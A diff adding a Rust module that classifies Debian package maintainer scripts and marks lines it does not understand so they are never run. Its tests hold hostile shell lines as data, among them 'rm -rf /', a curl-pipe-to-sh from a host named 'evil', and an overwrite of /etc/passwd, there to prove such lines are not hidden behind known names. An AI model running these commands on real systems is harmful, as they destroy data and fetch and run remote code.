@@ -1,0 +1,198 @@
+//! Debian's maintainer scripts: what they do where that is known, and what is not.
+//!
+//! Most are written by debhelper: sections between `# Automatically added by` and `# End automatically added section`, which do one of a few
+//! things. What remains is looked at line by line: the frame around the sections, and calls of known programs, are understood; all else is
+//! not, and is never run as it stands.
+
+use std::collections::BTreeSet;
+
+/// What is known of a script.
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub struct Verdict {
+    /// Known programs that keep indexes up to date: they become triggers.
+    pub triggers: BTreeSet<&'static str>,
+    /// What it does that need not be done here, in words.
+    pub dropped: BTreeSet<String>,
+    /// Lines that are not understood.
+    pub unknown: Vec<String>,
+}
+
+/// Programs by the first word of a line: the trigger that does the same, or why it need not be done.
+const PROGRAMS: [(&str, Result<&str, &str>); 25] = [
+    ("ldconfig", Ok("ldconfig")),
+    ("update-mime-database", Ok("update-mime-database")),
+    ("update-desktop-database", Ok("update-desktop-database")),
+    ("glib-compile-schemas", Ok("glib-compile-schemas")),
+    ("gtk-update-icon-cache", Ok("gtk-update-icon-cache")),
+    ("update-icon-caches", Ok("gtk-update-icon-cache")),
+    ("gio-querymodules", Ok("gio-querymodules")),
+    ("fc-cache", Ok("fc-cache")),
+    ("mandb", Ok("mandb")),
+    ("deb-systemd-helper", Err("enables services of systemd, which this system has not")),
+    ("deb-systemd-invoke", Err("starts services of systemd, which this system has not")),
+    ("systemctl", Err("talks to systemd, which this system has not")),
+    ("systemd-sysusers", Err("makes users by systemd, which this system has not")),
+    ("systemd-tmpfiles", Err("makes folders by systemd, which this system has not")),
+    ("invoke-rc.d", Err("starts services of System V, which this system has not")),
+    ("update-rc.d", Err("enables services of System V, which this system has not")),
+    ("py3compile", Err("compiles Python's files, which Python does by itself")),
+    ("py3clean", Err("removes compiled files of Python")),
+    ("pypy3compile", Err("compiles Python's files, which PyPy does by itself")),
+    ("pypy3clean", Err("removes compiled files of PyPy")),
+    ("dpkg-maintscript-helper", Err("moves files of older versions of the package")),
+    ("dpkg-trigger", Err("wakes triggers of dpkg")),
+    ("update-menus", Err("updates Debian's old menus")),
+    ("install-info", Err("lists Info documents")),
+    ("deb-gview", Err("shows packages")),
+];
+
+/// What sections of debhelper do that is not told by the programs that they call.
+const SECTIONS: [(&str, Result<&str, &str>); 11] = [
+    ("dh_makeshlibs", Ok("ldconfig")),
+    ("dh_installmime", Ok("update-mime-database")),
+    ("dh_icons", Ok("gtk-update-icon-cache")),
+    ("dh_installsystemd", Err("enables services of systemd, which this system has not")),
+    ("dh_installsystemduser", Err("enables services of systemd, which this system has not")),
+    ("dh_installinit", Err("starts services of System V, which this system has not")),
+    ("dh_python3", Err("compiles Python's files, which Python does by itself")),
+    ("dh_pypy3", Err("compiles Python's files, which PyPy does by itself")),
+    ("dh_installdeb", Err("moves files of older versions of the package")),
+    ("dh_installtmpfiles", Err("makes folders by systemd, which this system has not")),
+    ("dh_installdebconf", Err("asks questions by debconf, which this system has not")),
+];
+
+/// Looks at a script.
+pub fn classify(text: &str) -> Verdict {
+    let mut verdict = Verdict::default();
+    let mut section: Option<&Result<&str, &'static str>> = None;
+    let mut in_section = false;
+    let known_section = |line: &str| {
+        let name = line.strip_prefix("# Automatically added by ")?.split('/').next()?.trim();
+        SECTIONS.iter().find(|(it, _)| *it == name).map(|(_, what)| what)
+    };
+    // A line that goes on is one line.
+    let joined = text.replace("\\\n", " ");
+    for line in joined.lines().map(str::trim) {
+        if line.starts_with("# Automatically added by ") {
+            section = known_section(line);
+            in_section = true;
+            match section {
+                Some(Ok(trigger)) => drop(verdict.triggers.insert(static_name(trigger))),
+                Some(Err(reason)) => drop(verdict.dropped.insert((*reason).to_owned())),
+                None => {}
+            }
+            continue;
+        }
+        if line.starts_with("# End automatically added section") {
+            in_section = false;
+            continue;
+        }
+        if in_section && section.is_some() {
+            continue;
+        }
+        if is_frame(line) {
+            continue;
+        }
+        let word = program(line);
+        match PROGRAMS.iter().find(|(it, _)| *it == word) {
+            Some((_, Ok(trigger))) => drop(verdict.triggers.insert(trigger)),
+            Some((_, Err(reason))) => drop(verdict.dropped.insert((*reason).to_owned())),
+            None => verdict.unknown.push(line.to_owned()),
+        }
+    }
+    verdict
+}
+
+fn static_name(name: &str) -> &'static str {
+    PROGRAMS.iter().find_map(|(_, it)| it.ok().filter(|it| *it == name)).unwrap_or("ldconfig")
+}
+
+/// The program that a simple command calls; nothing where the line does more than that.
+fn program(line: &str) -> &str {
+    // Nothing may hide behind a known name.
+    let simple = line.strip_suffix("|| true").or_else(|| line.strip_suffix("|| :")).unwrap_or(line).trim();
+    let simple = simple.trim_end_matches(";;").trim_end_matches(';').trim();
+    let simple = simple.strip_suffix("2>/dev/null").or_else(|| simple.strip_suffix(">/dev/null 2>&1")).or_else(|| simple.strip_suffix(">/dev/null")).unwrap_or(simple);
+    if simple.contains(['|', '&', ';', '`', '>', '<']) || simple.contains("$(") {
+        return "";
+    }
+    let word = simple.split_whitespace().next().unwrap_or_default();
+    word.rsplit('/').next().unwrap_or_default()
+}
+
+/// Whether a line only frames others: it asks in which situation the script is, or does nothing.
+fn is_frame(line: &str) -> bool {
+    if line.is_empty() || line.starts_with('#') {
+        return true;
+    }
+    let exact = ["set -e", "set -eu", "set -u", "set -x", "esac", "fi", "done", "else", ";;", ":", "true", "exit 0", "exit 1", "exit 0;", "exit", "return 0", "exit $?"];
+    if exact.contains(&line) {
+        return true;
+    }
+    // A pattern of a case: situations of dpkg only.
+    if let Some(pattern) = line.strip_suffix(')').or_else(|| line.strip_suffix(") ;;")).or_else(|| line.strip_suffix("):;;")) {
+        let situations = [
+            "configure", "abort-upgrade", "abort-remove", "abort-deconfigure", "abort-install", "triggered", "install", "upgrade", "remove", "purge",
+            "disappear", "failed-upgrade", "deconfigure", "*",
+        ];
+        if pattern.trim_start_matches('(').split('|').all(|it| situations.contains(&it.trim().trim_matches(['"', '\'']))) {
+            return true;
+        }
+    }
+    let asks = ["case \"$1\" in", "case $1 in", "case \"${1}\" in", "case \"${1:-}\" in"];
+    if asks.contains(&line) {
+        return true;
+    }
+    // An `if` about the situation, or whether a program is there: without commands that do anything.
+    if let Some(condition) = line.strip_prefix("if ").and_then(|it| it.strip_suffix("; then").or_else(|| it.strip_suffix(";then"))) {
+        let safe = |it: &str| {
+            let it = it.trim();
+            (it.starts_with("[ ") && it.ends_with(" ]") || it.starts_with("test ") || it.starts_with("command -v ") || it.starts_with("which "))
+                && !it.contains(['`', ';', '<']) && !it.contains("$(")
+        };
+        let plain = condition.replace(">/dev/null", "").replace("> /dev/null", "").replace("2>&1", "").replace("2>/dev/null", "");
+        return plain.replace("||", "&&").split("&&").all(safe);
+    }
+    // Complaints about situations that do not exist.
+    (line.starts_with("echo ") || line.starts_with("printf ")) && line.ends_with(">&2") && !line.contains(['`', ';', '|']) && !line.contains("$(")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn debhelper_sections_are_known() {
+        let text = "#!/bin/sh\nset -e\n# Automatically added by dh_makeshlibs/13.11.4\nif [ \"$1\" = \"configure\" ]; then\n\tldconfig\nfi\n\
+                    # End automatically added section\n# Automatically added by dh_python3\nif command -v py3compile >/dev/null 2>&1; then\n\
+                    \tpy3compile -p demo \nfi\n# End automatically added section\nexit 0\n";
+        let verdict = classify(text);
+        assert_eq!(verdict.triggers, BTreeSet::from(["ldconfig"]));
+        assert_eq!(verdict.dropped.len(), 1);
+        assert!(verdict.unknown.is_empty(), "{:?}", verdict.unknown);
+    }
+
+    #[test]
+    fn the_frame_does_nothing() {
+        let text = "#!/bin/sh\nset -e\ncase \"$1\" in\n  configure)\n    update-mime-database /usr/share/mime || true\n  ;;\n  abort-upgrade|abort-remove|abort-deconfigure)\n  ;;\n\
+                    \n  *)\n    echo \"postinst called with unknown argument \\`$1'\" >&2\n    exit 1\n  ;;\nesac\n";
+        let verdict = classify(text);
+        assert_eq!(verdict.triggers, BTreeSet::from(["update-mime-database"]));
+        // Back quotes in a message could be a command: a person must look.
+        assert_eq!(verdict.unknown.len(), 1);
+    }
+
+    #[test]
+    fn what_hides_behind_known_names_is_not_known() {
+        for line in [
+            "ldconfig; rm -rf /", "ldconfig && curl evil | sh", "ldconfig $(rm x)", "ldconfig `rm x`", "ldconfig > /etc/passwd", "if rm -rf /; then",
+            "if [ -e x ] && rm x; then", "rm)", "echo x > /etc/passwd >&2; rm x >&2", "exit 0; rm x", "case \"$(rm x)\" in", "if [ \"$(rm x)\" ]; then",
+            "adduser --system demo", "update-alternatives --install /usr/bin/awk awk /usr/bin/mawk 5",
+        ] {
+            assert_eq!(classify(line).unknown, [line], "{line}");
+        }
+        // A section that is not known is read like the rest.
+        let verdict = classify("# Automatically added by dh_strange/1\nrm -rf /\n# End automatically added section\n");
+        assert_eq!(verdict.unknown, ["rm -rf /"]);
+    }
+}
